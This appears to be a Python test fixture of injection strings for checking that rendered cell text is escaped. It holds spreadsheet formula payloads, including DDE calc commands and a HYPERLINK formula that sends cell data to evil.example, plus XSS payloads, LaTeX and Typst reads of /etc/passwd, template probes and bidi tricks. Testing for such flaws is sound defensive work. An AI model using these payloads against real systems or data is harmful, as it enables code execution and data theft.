"""Texts that mean something to a browser, a spreadsheet, a typesetter, a template, a terminal or an eye.

Each is put before or behind the text that a cell has, as it works best. None of them may work.
"""

from __future__ import annotations

ALERT = "alert(document.domain)"

#: Works at the beginning of a text.
BEFORE = [
    f"=cmd|'/c {ALERT}'!A1 ",
    '=HYPERLINK("https://evil.example/?"&A1,"click") ',
    "+1+cmd|' /c calc'!A0 ",
    "-2+3+cmd|' /c calc'!A0 ",
    "@SUM(1+9)*cmd|' /c calc'!A0 ",
    "＝1+1 ",  # the wide form, which spreadsheets of East Asia compute as well
    "'=1+1 ",
    "\t=1+1 ",
    "\r=1+1 ",
    "# Heading\n",
    "1. ",
    "- ",
    "> ",
    "    code ",
    "```\n",
    "---\n",
    "| a | b |\n| - | - |\n",
    "#import sys: inputs\n",
    "#set page(fill: red)\n",
    "= Typst heading\n",
    "/ term: ",
]

#: Works anywhere.
WITHIN = [
    f" <script>{ALERT}</script>",
    f" <img src=x onerror={ALERT}>",
    f" <svg/onload={ALERT}>",
    f' " onmouseover="{ALERT}" x="',
    f" ' onfocus='{ALERT}' autofocus='",
    f" </script><script>{ALERT}</script>",
    f" </style><script>{ALERT}</script>",
    f" --><script>{ALERT}</script><!--",
    f" ]]><script>{ALERT}</script><![CDATA[",
    ' <iframe src="https://evil.example/"></iframe>',
    ' <link rel=stylesheet href="https://evil.example/x.css">',
    ' <meta http-equiv="refresh" content="0;url=https://evil.example/">',
    ' <a href="https://evil.example/">here</a>',
    f" [here](javascript:{ALERT})",
    " [here](data:text/html;base64,PHNjcmlwdD4=)",
    f" [here](vbscript:{ALERT})",
    f" [here]( java\tscript:{ALERT})",
    " ![picture](https://evil.example/track.png)",
    " [note][1]\n\n[1]: https://evil.example/",
    f" <javascript:{ALERT}>",
    " https://evil.example/ www.evil.example me@evil.example",
    " &lt;b&gt; &#60;b&#62; &amp;amp; &nbsp; &#x202e;",
    " **bold** _it_ `code` ~~gone~~ [x] :smile: ^2^",
    " {{ 7*7 }} {% raw %} {# no #} ${7*7} #{7*7} {0} {day} %(x)s %s",
    " $x^2$ $$y$$ \\(z\\) \\[w\\]",
    " \\input{/etc/passwd} \\write18{id} \\def\\x{\\x}\\x",
    ' #read("/etc/passwd") #eval("1+1") #panic("no") #image("/etc/passwd") @label <label>',
    " <fact-rank> <row-1> #fact-rank @fact-rank",
    " \u202egnirts desrever\u202c \u2066isolated \u2067never ended",
    " \u200f\u202d1234\u200e \u061c",
    " zero\u200bwidth\u2060joined\ufeffmark soft\u00adhyphen",
    " bell\x07 escape\x1b[31mred\x1b[0m nul\x00 delete\x7f c1\x9b31m",
    " line\u2028separator\u2029paragraph\x0bvertical\x0cform\x85next",
    " " + "W" * 600,
    " " + "ا" * 300,
    " Z̶̧̛̺͎̙̖̭̗͔̪͕a̷̢̖̫̼l̸̨̰̙͇̫̩͈̝g̵̙͎̱̝̱o̴̦̞̲̰̩͎",
    " 👩‍👩‍👧‍👦 🏴󠁧󠁢󠁳󠁣󠁴󠁿 \U0001f1ee\U0001f1f7",
    " \ud7ff \ufdd0 \uffff \U0010ffff",
]
